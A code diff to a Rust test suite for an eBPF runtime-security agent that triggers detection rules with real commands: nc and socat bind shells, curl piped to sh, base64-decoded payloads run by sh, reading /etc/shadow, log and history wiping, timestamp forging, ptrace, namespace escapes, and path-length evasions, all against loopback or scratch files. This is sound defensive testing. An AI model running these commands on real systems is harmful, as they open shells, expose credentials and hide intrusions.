@@ -152,7 +152,16 @@ fn programs_for(kind: &str) -> &'static [&'static str] {
         // The cgroup connect hook where it attaches (every host with cgroup v2), the
         // sys_enter_connect tracepoint otherwise.
         "connect" => &["rasp_connect4", "rasp_connect"],
+        // AF_UNIX: sys_enter_connect, alone where the cgroup hooks see IPv4/6.
+        "unix_connect" => &["rasp_unix_connect", "rasp_connect"],
         "exec" => &["rasp_exec"],
+        "file_change" => &["rasp_file_change"],
+        "ptrace" => &["rasp_ptrace"],
+        "namespace" => &["rasp_namespace"],
+        "mount" => &["rasp_mount"],
+        "kernel_module" => &["rasp_kernel_module"],
+        "bpf_load" => &["rasp_bpf"],
+        "io_uring" => &["rasp_io_uring"],
         other => panic!("no program for {other}"),
     }
 }
@@ -303,6 +312,8 @@ enum Who {
     Command,
     /// A process the command starts (a server spawning a shell).
     ChildOf,
+    /// Any process below the command (a listener's shell, the reader of a pipeline).
+    Descendant,
 }
 
 #[derive(Clone, Debug)]
@@ -353,6 +364,10 @@ impl Case {
     }
     fn child(mut self) -> Case {
         self.who = Who::ChildOf;
+        self
+    }
+    fn descendant(mut self) -> Case {
+        self.who = Who::Descendant;
         self
     }
     fn exe(mut self, path: impl Into<String>) -> Case {
@@ -449,7 +464,36 @@ fn exec_cases(fx: &mut Fixtures) -> Vec<Case> {
     let fifo = fx.tmp.join("f");
     let s = Fixtures::s;
     let server_shell = "-c 'sh -c true; exit 0'";
+    let (bind_port, relay_port) = (free_loopback_port(), free_loopback_port());
     vec![
+        // A bind shell: the listener hands /bin/sh the connection it accepts, whose
+        // descriptors are then the socket (whatever the command lines say).
+        Case::new(
+            "shell-stdio-network-socket",
+            format!(
+                "sh -c 'nc -l -p {bind_port} -e /bin/sh & sleep 0.5; \
+                 echo exit | nc -q 1 127.0.0.1 {bind_port}; wait'"
+            ),
+        )
+        .descendant()
+        .exe("/bin/sh")
+        .needs("/usr/bin/nc", "netcat-traditional"),
+        Case::new(
+            "shell-stdio-from-network-relay",
+            format!(
+                "sh -c 'socat TCP-LISTEN:{relay_port},bind=127.0.0.1,reuseaddr EXEC:/bin/sh & \
+                 sleep 0.5; echo exit | socat - TCP:127.0.0.1:{relay_port}; wait'"
+            ),
+        )
+        .descendant()
+        .exe("/bin/sh")
+        .needs("/usr/bin/socat", "socat"),
+        // Padding pushes the rest of the command line past the 4 KiB captured.
+        Case::new(
+            "command-line-beyond-capture",
+            format!("bash -c '{}true'", " ".repeat(4200)),
+        )
+        .exe("/bin/bash"),
         Case::new("exec-from-tmp", s(&tmp_payload)).exe(s(&tmp_payload)),
         Case::new("exec-from-hidden-tmp-path", s(&hidden_payload))
             .exe(s(&hidden_payload))
@@ -591,7 +635,16 @@ fn file_cases(fx: &mut Fixtures) -> Vec<Case> {
     if !preload.exists() {
         fx.scratch.adopt(preload);
     }
+    let cron_link = PathBuf::from("/etc/cron.d").join(unique_name("rasp-test"));
+    fx.scratch.adopt(&cron_link);
     vec![
+        // A symlink is no open for writing: only the file-change hook sees it.
+        Case::new(
+            "persistence-file-replaced",
+            format!("ln -s /dev/null {}", s(&cron_link)),
+        )
+        .exe("/usr/bin/ln")
+        .path(s(&cron_link)),
         Case::new("read-shadow-file", "cat /etc/shadow")
             .exe("/bin/cat")
             .path("/etc/shadow"),
@@ -665,7 +718,7 @@ fn technique_cases(fx: &mut Fixtures) -> Vec<Case> {
     let sock = s(&fx.tmp.join("docker.sock"));
     let nopid = absent_pid();
     let socket_curl = format!("curl -s -m 1 --unix-socket {sock} http://localhost/version");
-    vec![
+    let mut cases = vec![
         Case::new(
             "download-piped-to-shell",
             "sh -c 'curl -s -m 1 http://127.0.0.1:9/i.sh | sh'",
@@ -818,6 +871,219 @@ fn technique_cases(fx: &mut Fixtures) -> Vec<Case> {
         Case::new("kernel-module-remove", "rmmod rasp_test_absent_module")
             .exe("/usr/bin/kmod")
             .needs("/usr/sbin/rmmod", "kmod"),
+    ];
+    cases.extend(hook_cases(fx, &home));
+    cases
+}
+
+/// The path of the `rasp-technique` helper this crate builds.
+fn technique_bin() -> String {
+    env!("CARGO_BIN_EXE_rasp-technique").to_string()
+}
+
+const PYTHON: &str = "/usr/bin/python3";
+
+/// The cases of the rules on the issue-19 hooks: each does the system call itself (from a
+/// Python one-liner, sed, ln, nsenter, mount, the rasp-technique helper), harmlessly:
+/// scratch files, modes and attributes on copies, memory written back unchanged, mounts
+/// in a private mount namespace, a loop device over a scratch image, refused connects.
+fn hook_cases(fx: &mut Fixtures, home: &Path) -> Vec<Case> {
+    let s = Fixtures::s;
+    let tech = technique_bin();
+    let copy = fx.scratch.copy("/bin/true", fx.var.join("mode-copy"));
+    let cap_copy = fx.scratch.copy("/bin/true", fx.var.join("cap-copy"));
+    let history = fx
+        .scratch
+        .file(fx.var.join("home/.bash_history"), b"ls\n", 0o600);
+    let xprofile = fx
+        .scratch
+        .file(home.join(".xprofile"), b"# rasp test\n", 0o644);
+    let log = fx.scratch.file(
+        PathBuf::from("/var/log").join(format!("{}.log", unique_name("rasp-test"))),
+        b"a line\n",
+        0o640,
+    );
+    let state_dir = fx.scratch.unique_dir("/var/lib/rasp");
+    let state = fx
+        .scratch
+        .file(state_dir.join("detections.jsonl"), b"{}\n", 0o600);
+    let sysbin = fx.scratch.copy(
+        "/bin/true",
+        PathBuf::from("/usr/local/bin").join(unique_name("rasp-test")),
+    );
+    let sock = s(&fx.tmp.join("docker.sock"));
+    let http_port = free_loopback_port();
+    let response = fx.scratch.file(
+        fx.var.join("response"),
+        b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nexit 0\n",
+        0o644,
+    );
+    // Pipelines typed in a script: the shell that reads the download has argv `sh`, and
+    // the script's own command line names no pipeline.
+    let fetch = fx.scratch.file(
+        fx.var.join("fetch.sh"),
+        format!(
+            "nc -l -p {http_port} < {} > /dev/null &\nsleep 0.5\n\
+             curl -s -m 5 http://127.0.0.1:{http_port}/i.sh | sh\nwait\n",
+            s(&response)
+        )
+        .as_bytes(),
+        0o644,
+    );
+    let decode = fx.scratch.file(
+        fx.var.join("decode.sh"),
+        b"echo ZXhpdCAw | base64 -d | sh\n",
+        0o644,
+    );
+    let mountpoint = fx.scratch.dir(fx.tmp.join("mnt"));
+    let image = fx.var.join("disk.img");
+    fx.scratch.adopt(&image);
+    let image_cmd = format!(
+        "sh -c 'truncate -s 4M {img} && mkfs.ext4 -q -F {img} && \
+         L=$(losetup -f --show {img}) && unshare -p -f -m mount -o ro $L {mnt}; \
+         losetup -d $L'",
+        img = s(&image),
+        mnt = s(&mountpoint)
+    );
+    let cgroup_name = unique_name("rasp-test");
+    vec![
+        Case::new("shell-reads-download", format!("sh {}", s(&fetch)))
+            .descendant()
+            .exe("/bin/sh")
+            .needs("/usr/bin/curl", "curl")
+            .needs("/usr/bin/nc", "netcat-traditional"),
+        Case::new("shell-reads-decoded-payload", format!("sh {}", s(&decode)))
+            .descendant()
+            .exe("/bin/sh"),
+        Case::new(
+            "setuid-bit-set-by-program",
+            format!(
+                "{PYTHON} -c 'import os; os.chmod(\"{}\", 0o4755)'",
+                s(&copy)
+            ),
+        )
+        .exe(PYTHON)
+        .path(s(&copy)),
+        // A version-2 file capability: effective, CAP_NET_RAW permitted.
+        Case::new(
+            "file-capability-set-by-program",
+            format!(
+                "{PYTHON} -c 'import os; os.setxattr(\"{}\", \"security.capability\", \
+                 bytes.fromhex(\"0100000200200000000000000000000000000000\"))'",
+                s(&cap_copy)
+            ),
+        )
+        .exe(PYTHON)
+        .path(s(&cap_copy)),
+        Case::new(
+            "shell-history-removed-or-replaced",
+            format!("{PYTHON} -c 'import os; os.unlink(\"{}\")'", s(&history)),
+        )
+        .exe(PYTHON)
+        .path(s(&history)),
+        Case::new(
+            "log-removed-or-truncated",
+            format!("{PYTHON} -c 'import os; os.truncate(\"{}\", 0)'", s(&log)),
+        )
+        .exe(PYTHON)
+        .path(s(&log)),
+        Case::new(
+            "audit-or-agent-state-removed",
+            format!("{PYTHON} -c 'import os; os.unlink(\"{}\")'", s(&state)),
+        )
+        .exe(PYTHON)
+        .path(s(&state)),
+        Case::new(
+            "timestamp-forged-on-system-file",
+            format!(
+                "{PYTHON} -c 'import os; os.utime(\"{}\", (978307200, 978307200))'",
+                s(&sysbin)
+            ),
+        )
+        .exe(PYTHON)
+        .path(s(&sysbin)),
+        // sed -i writes a temporary file beside the original and renames it over it.
+        Case::new(
+            "startup-file-replaced",
+            format!("sed -i '$a # rasp test' {}", s(&xprofile)),
+        )
+        .exe("/usr/bin/sed"),
+        // The victim is the command's own `sleep`, a sibling of the helper, not its child.
+        Case::new(
+            "process-attached-by-non-parent",
+            format!("sh -c 'sleep 5 & {tech} ptrace-poke $!; kill $!'"),
+        )
+        .child()
+        .exe(tech.clone()),
+        Case::new(
+            "process-memory-written-by-non-parent",
+            format!("sh -c 'sleep 5 & {tech} ptrace-poke $!; kill $!'"),
+        )
+        .child()
+        .exe(tech.clone()),
+        Case::new(
+            "process-memory-read-by-non-parent",
+            format!("sh -c 'sleep 5 & {tech} vm-read-write $!; kill $!'"),
+        )
+        .child()
+        .exe(tech.clone()),
+        // A new PID namespace (a container as far as the agent can tell) entering the mount
+        // namespace of a host process.
+        Case::new(
+            "setns-into-host-namespace",
+            "sh -c 'unshare -p -f nsenter --mount=/proc/$$/ns/mnt true'",
+        )
+        .descendant()
+        .exe("/usr/bin/nsenter")
+        .needs("/usr/bin/nsenter", "util-linux"),
+        Case::new(
+            "user-namespace-created-by-user",
+            "setpriv --reuid=65534 --regid=65534 --clear-groups unshare -r true",
+        )
+        .exe("/usr/bin/unshare")
+        .needs("/usr/bin/setpriv", "util-linux"),
+        Case::new("host-device-mounted-in-container", image_cmd)
+            .descendant()
+            .exe("/usr/bin/mount")
+            .needs("/usr/sbin/mkfs.ext4", "e2fsprogs")
+            .needs("/usr/sbin/losetup", "mount"),
+        Case::new(
+            "cgroup-mounted-in-container",
+            format!(
+                "unshare -p -f -m mount -t cgroup -o none,name={cgroup_name} cgroup {}",
+                s(&mountpoint)
+            ),
+        )
+        .descendant()
+        .exe("/usr/bin/mount"),
+        Case::new(
+            "container-runtime-socket-connected",
+            format!(
+                "{PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX).connect_ex(\"{sock}\")'"
+            ),
+        )
+        .exe(PYTHON)
+        .path(sock.clone()),
+        Case::new(
+            "container-runtime-socket-connected-in-container",
+            format!(
+                "{PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX).connect_ex(\"{sock}\")'"
+            ),
+        )
+        .in_container()
+        .exe(PYTHON)
+        .path(sock),
+        Case::new("bpf-program-loaded", format!("{tech} bpf-load")).exe(tech.clone()),
+        Case::new(
+            "io-uring-file-or-network-op",
+            format!("{tech} io-uring-open /etc/hostname"),
+        )
+        .exe(tech.clone()),
+        Case::new(
+            "io-uring-file-or-network-op",
+            format!("{tech} io-uring-connect 127.0.0.1:9"),
+        )
+        .exe(tech),
     ]
 }
 
@@ -900,6 +1166,8 @@ fn case_problems(
                 ));
             }
         }
+        // `caused_by` already found the command in the ancestry.
+        Who::Descendant => {}
         Who::ChildOf => {
             if d["ancestry"][0]["pid"] != json!(pid) {
                 problems.push(format!(
@@ -1087,7 +1355,11 @@ fn every_shipped_rule_has_a_scenario() {
         let rule = shipped_rule(case.rule);
         covered.insert(rule.id.clone());
     }
-    // `sql_query` rules need a database server: scenarios/sql.rs triggers them.
+    // `sql_query` rules need a database server: scenarios/sql.rs triggers them. Module
+    // loads need a kernel with module support:
+    // kernel_modules_loaded_by_a_program_are_seen_where_modules_can_load (run by
+    // io_uring_modules_and_evasions_on_one_agent).
+    covered.insert("kernel-module-loaded-by-program".into());
     let uncovered: Vec<&str> = rules
         .iter()
         .filter(|r| !covered.contains(&r.id) && r.event != "sql_query")
@@ -1180,6 +1452,7 @@ fn credential_and_system_file_rules_fire_on_real_opens() {
     require_root();
     let agent = Agent::start(&[]);
     require_hook(&agent, "file_open");
+    require_hook(&agent, "file_change");
     let mut fx = Fixtures::new();
     let cases = file_cases(&mut fx);
     run_cases(&agent, &cases);
@@ -1203,20 +1476,23 @@ fn cloud_metadata_rules_fire_on_a_real_connect() {
     run_cases(&agent, &connect_cases());
 }
 
-/// Runs the technique cases of `policy`, requiring the file-open hook when any is a file case.
+/// Runs the technique cases of `policy`, requiring the hook of every event kind they need.
 fn run_technique_policy(policy: &str) {
     require_root();
     let agent = Agent::start(&[]);
+    technique_policy_on(&agent, policy);
+}
+
+/// `run_technique_policy` on an agent already running.
+fn technique_policy_on(agent: &Agent, policy: &str) {
     let mut fx = Fixtures::new();
     let cases = cases_of_policy(technique_cases(&mut fx), policy);
     assert!(!cases.is_empty(), "no cases for policy {policy}");
-    if cases
-        .iter()
-        .any(|c| shipped_rule(c.rule).event == "file_open")
-    {
-        require_hook(&agent, "file_open");
+    let kinds: BTreeSet<String> = cases.iter().map(|c| shipped_rule(c.rule).event).collect();
+    for kind in &kinds {
+        require_hook(agent, kind);
     }
-    run_cases(&agent, &cases);
+    run_cases(agent, &cases);
 }
 
 #[test]
@@ -1254,6 +1530,154 @@ fn kernel_module_rules_fire_on_real_module_tools() {
     run_technique_policy("kernel-modules");
 }
 
+/// The scenarios of the issue-19 hooks that have no policy test of their own share one
+/// agent (each agent start costs seconds of program loading): io_uring submissions, a
+/// module loaded by a program, and the long-path and private-namespace evasions.
+#[test]
+fn io_uring_modules_and_evasions_on_one_agent() {
+    require_root();
+    let agent = Agent::start(&[]);
+    technique_policy_on(&agent, "io-uring");
+    kernel_modules_loaded_by_a_program_are_seen_where_modules_can_load(&agent);
+    long_paths_and_private_namespaces_do_not_hide_techniques(&agent);
+}
+
+/// A module file of the running kernel to load and unload again, if it has any.
+fn loadable_module() -> Option<PathBuf> {
+    let dir = PathBuf::from("/lib/modules")
+        .join(rasp_tests::kernel_release())
+        .join("kernel/drivers/net");
+    ["dummy.ko", "dummy.ko.xz", "dummy.ko.zst", "dummy.ko.gz"]
+        .iter()
+        .map(|n| dir.join(n))
+        .find(|p| p.exists())
+}
+
+/// `kernel-module-loaded-by-program`: a module loaded with finit_module(2) by a program of
+/// its own. Where the kernel has no module support (no /proc/modules: this project's CI
+/// kernel), nothing can be loaded and the hook has no tracepoint to attach to; the agent
+/// must then say so in `status` instead of reporting the hook as working.
+fn kernel_modules_loaded_by_a_program_are_seen_where_modules_can_load(agent: &Agent) {
+    if !Path::new("/proc/modules").exists() {
+        let status = agent.status();
+        let hooks: Vec<&Value> = status["programs"]
+            .as_array()
+            .map(|p| {
+                p.iter()
+                    .filter(|p| p["name"] == "rasp_kernel_module")
+                    .collect()
+            })
+            .unwrap_or_default();
+        assert!(!hooks.is_empty(), "rasp_kernel_module is not in status");
+        for h in &hooks {
+            assert_eq!(h["state"], "failed", "{h}");
+            let error = h["error"].as_str().unwrap_or("");
+            assert!(
+                error.contains("no such tracepoint") && error.contains("module"),
+                "the reason must name the missing tracepoint and module support: {h}"
+            );
+        }
+        eprintln!(
+            "note: kernel {} has no module support: the load case cannot run here; the \
+             agent reports why its module hook is not attached",
+            rasp_tests::kernel_release()
+        );
+        return;
+    }
+    require_hook(agent, "kernel_module");
+    let module = loadable_module().unwrap_or_else(|| {
+        panic!("no dummy.ko of the running kernel under /lib/modules to load: install its modules package")
+    });
+    let case = Case::new(
+        "kernel-module-loaded-by-program",
+        format!("{} finit-module {}", technique_bin(), module.display()),
+    )
+    .exe(technique_bin());
+    run_cases(agent, &[case]);
+    let _ = Command::new("rmmod").arg("dummy").status();
+}
+
+// ---------------------------------------------------------------------------------------
+// Evasions: what used to hide a technique from the rules.
+
+/// A directory `depth` levels below `root`, each level named `name`.
+fn nested(root: &Path, name: &str, depth: usize) -> PathBuf {
+    (0..depth).fold(root.to_path_buf(), |p, _| p.join(name))
+}
+
+/// Paths too long or too deep for the kernel's path buffer keep their top components
+/// (`/tmp/...`), so rules anchored there still match; padding that pushes a command past
+/// the argv capture is a detection of its own (command-line-beyond-capture, in the
+/// suspicious-exec cases); a new PID namespace counts as a container without a container
+/// cgroup.
+fn long_paths_and_private_namespaces_do_not_hide_techniques(agent: &Agent) {
+    require_hook(agent, "library_load");
+    let mut fx = Fixtures::new();
+    let s = Fixtures::s;
+    // Four 250-byte directories: 1000+ bytes, more than the 1024-byte buffer holds with
+    // the file's name.
+    let long = ["a", "b", "c", "d"]
+        .iter()
+        .fold(fx.tmp.clone(), |p, c| p.join(c.repeat(250)));
+    let long_lib = fx
+        .scratch
+        .copy(harmless_library(), long.join("librasp-long.so"));
+    let long_payload = fx.scratch.copy("/bin/true", long.join("payload-long"));
+    // Sixty levels: deeper than the walk's 48 copying steps.
+    let deep = nested(&fx.tmp.join("deep"), "d", 60);
+    let deep_lib = fx
+        .scratch
+        .copy(harmless_library(), deep.join("librasp-deep.so"));
+    let app = fx.scratch.copy("/bin/true", fx.opt.join("bin/app-long"));
+    let cases = vec![
+        Case::new(
+            "library-load-from-tmp",
+            format!("env LD_PRELOAD={} {}", s(&long_lib), s(&app)),
+        )
+        .exe(s(&app)),
+        Case::new(
+            "library-load-from-tmp",
+            format!("env LD_PRELOAD={} {}", s(&deep_lib), s(&app)),
+        )
+        .exe(s(&app)),
+        Case::new("exec-from-tmp", s(&long_payload)),
+        // No container cgroup: a private PID namespace is what says "container".
+        Case::new(
+            "package-manager-in-container",
+            "unshare -p -f dpkg --version",
+        )
+        .descendant()
+        .exe("/usr/bin/dpkg"),
+    ];
+    run_cases(agent, &cases);
+
+    // What the rules matched on: the top of the path, a gap, its leaf side.
+    let top = s(&fx.tmp);
+    let shown = |rule: &str, leaf: &str| -> Vec<String> {
+        agent
+            .detections(&["--rule", rule])
+            .iter()
+            .filter_map(|d| {
+                let p = d["event"]["path"].as_str().or(d["event"]["exe"].as_str())?;
+                p.ends_with(leaf).then(|| p.to_string())
+            })
+            .collect()
+    };
+    for (rule, leaf) in [
+        ("library-load-from-tmp", "/librasp-long.so"),
+        ("library-load-from-tmp", "/librasp-deep.so"),
+        ("exec-from-tmp", "/payload-long"),
+    ] {
+        let paths = shown(rule, leaf);
+        assert!(
+            paths
+                .iter()
+                .any(|p| p.starts_with(&format!("{top}/")) && p.contains("/…/")),
+            "{rule}: the path of {leaf} keeps its top ({top}) and marks the gap: {paths:?}"
+        );
+    }
+}
+
 // ---------------------------------------------------------------------------------------
 // A normal workload.
 
@@ -1287,12 +1711,13 @@ fn free_loopback_port() -> u16 {
         .port()
 }
 
-/// What a developer's or a database host's day looks like: file tools, git (in /tmp too),
-/// python, modes and timestamps set the ordinary way, base64 decoding to a file, shells
-/// reading their rc files, a C build whose result runs from a normal directory, shell
-/// scripts, and a real PostgreSQL
-/// (initdb, start, a query over TCP on loopback, stop). Arguments: WORK (not under /tmp),
-/// TMP, PGBIN, PORT.
+/// What a developer's, an admin's or a database host's day looks like: file tools, git (in
+/// /tmp too), python, modes and timestamps set the ordinary way, base64 decoding to a
+/// file, shells reading their rc files, a C build whose result runs from /tmp and from a
+/// normal directory, pytest in /tmp, sudo, a crontab edited with crontab, systemctl, a
+/// package installed on the host with apt and removed, shell scripts, and a real
+/// PostgreSQL (initdb, start, a query over TCP on loopback, stop). Arguments: WORK (not
+/// under /tmp), TMP, PGBIN, PORT.
 const WORKLOAD: &str = r#"set -eu
 work="$1"; tmp="$2"; pgbin="$3"; port="$4"
 cd "$work"
@@ -1318,8 +1743,43 @@ sleep 0.1
 sh -c 'for i in 1 2 3; do echo "line $i"; done' | wc -l > /dev/null
 printf '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n' > "$tmp/hello.c"
 cc -O2 -o "$tmp/hello" "$tmp/hello.c"
+"$tmp/hello" > /dev/null
 cp "$tmp/hello" "$work/hello"
 "$work/hello" > /dev/null
+(cd "$tmp" && cc -o hello2 hello.c && ./hello2 > /dev/null)
+# pytest in /tmp, as a module and through its script.
+mkdir "$tmp/proj"
+printf 'def test_sum():\n    assert 1 + 1 == 2\n' > "$tmp/proj/test_sum.py"
+(cd "$tmp/proj" && /usr/bin/python3 -m pytest -q > /dev/null && pytest -q -p no:cacheprovider > /dev/null)
+# git, the whole round: init, add, commit, branch, log.
+git -C "$tmp/repo" -c user.name=rasp -c user.email=rasp@test.invalid commit -q --allow-empty -m one
+printf 'x\n' > "$tmp/repo/f" && git -C "$tmp/repo" add f
+git -C "$tmp/repo" -c user.name=rasp -c user.email=rasp@test.invalid commit -q -m two
+git -C "$tmp/repo" checkout -q -b side && git -C "$tmp/repo" log --oneline > /dev/null
+# sudo to another user and to root, non-interactively.
+sudo -n -u postgres true
+sudo -n true
+# A user's crontab edited with the crontab tool (postgres's: the host's own stay as they are).
+crontab -u postgres -l > "$tmp/cron.saved" 2>/dev/null || true
+(cat "$tmp/cron.saved"; echo '17 3 * * * /bin/true # rasp-benign') | crontab -u postgres -
+crontab -u postgres -l | grep -q rasp-benign
+if [ -s "$tmp/cron.saved" ]; then crontab -u postgres "$tmp/cron.saved"; else crontab -u postgres -r; fi
+# systemctl as admins run it (no systemd as PID 1 here: the queries answer offline).
+systemctl --version > /dev/null
+systemctl is-enabled cron > /dev/null 2>&1 || true
+systemctl list-unit-files --no-pager > /dev/null 2>&1 || true
+# A package installed on the host through apt and removed again: a local .deb whose
+# postinst grants a file capability, as ping's does.
+pkg="$tmp/pkg"
+mkdir -p "$pkg/DEBIAN" "$pkg/usr/local/lib/rasp-benign"
+printf 'Package: rasp-benign-test\nVersion: 1.0\nArchitecture: all\nMaintainer: rasp <rasp@test.invalid>\nDescription: installed and removed by the benign workload\n' > "$pkg/DEBIAN/control"
+printf '#!/bin/sh\nset -e\nsetcap cap_net_raw+ep /usr/local/lib/rasp-benign/helper\n' > "$pkg/DEBIAN/postinst"
+chmod 755 "$pkg/DEBIAN/postinst"
+cp /bin/true "$pkg/usr/local/lib/rasp-benign/helper"
+dpkg-deb --build --root-owner-group "$pkg" "$tmp/rasp-benign.deb" > /dev/null
+apt-get install -y -q -o DPkg::Lock::Timeout=300 "$tmp/rasp-benign.deb" > /dev/null 2>&1
+getcap /usr/local/lib/rasp-benign/helper | grep -q cap_net_raw
+apt-get remove -y -q -o DPkg::Lock::Timeout=300 rasp-benign-test > /dev/null 2>&1
 pgdata="$tmp/pgdata"
 mkdir "$pgdata"
 chown postgres: "$pgdata"
@@ -1341,6 +1801,10 @@ fn normal_workload_produces_no_detection() {
         ("/usr/sbin/runuser", "util-linux"),
         ("/usr/bin/cc", "gcc"),
         ("/usr/bin/ps", "procps"),
+        ("/usr/bin/crontab", "cron"),
+        ("/usr/bin/sudo", "sudo"),
+        ("/usr/bin/pytest", "python3-pytest"),
+        ("/usr/sbin/getcap", "libcap2-bin"),
     ] {
         if let Some(problem) = missing(program, package) {
             panic!("the workload needs {program}: {problem}");
